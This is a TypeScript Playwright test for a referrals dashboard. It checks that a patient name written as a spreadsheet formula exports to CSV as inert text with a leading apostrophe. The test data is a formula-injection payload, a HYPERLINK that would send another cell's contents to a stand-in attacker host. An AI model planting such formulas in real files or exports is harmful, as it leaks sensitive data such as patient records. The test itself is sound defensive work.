import { readFile } from 'node:fs/promises';
import Papa from 'papaparse';
import { referralInput } from '../src/server/demo/samples';
import { freshContext, tag } from './support/api';
import { expect, test } from './support/fixtures';

/**
 * A visitor's text reaches a staff member's spreadsheet through a table's Export CSV; the file must show it, never
 * run it (docs/decisions/079-one-csv-formula-guard.md). The payload's line break once slipped past papaparse's test.
 */
test('an anonymous referral whose patient name is a formula exports from the referrals table as text', async ({
  adminPage: page,
}) => {
  const t = tag();
  const patientName = `=HYPERLINK("https://evil.example/?q="&C2,"Open chart ${t}\nrecord")`;
  const visitor = await freshContext();
  // A visitor's own address, so the journey spends none of the referral limit the other journeys' partners share.
  const sent = await visitor.post('/api/referrals', {
    data: referralInput({ patientName }),
    headers: { 'x-forwarded-for': '203.0.113.79' },
  });
  expect(sent.status(), await sent.text()).toBe(201);
  await visitor.dispose();

  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto('/dashboard?tab=referrals');
  await expect(
    page
      .getByRole('table')
      .getByRole('row')
      .filter({ hasText: `Open chart ${t}` }),
  ).toHaveCount(1);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const csv = await readFile((await (await download).path())!, 'utf8');

  const { data, errors } = Papa.parse<Record<string, string>>(csv, { header: true, delimiter: ',', newline: '\r\n' });
  expect(errors).toEqual([]);
  const ours = data.filter((row) => row.Patient?.includes(t));
  expect(ours).toHaveLength(1);
  // One apostrophe in front, so the spreadsheet shows the text; the name is otherwise as sent, line break and all.
  expect(ours[0]!.Patient).toBe(`'${patientName}`);
  expect(ours[0]!.Status).toBe('Pending');
});
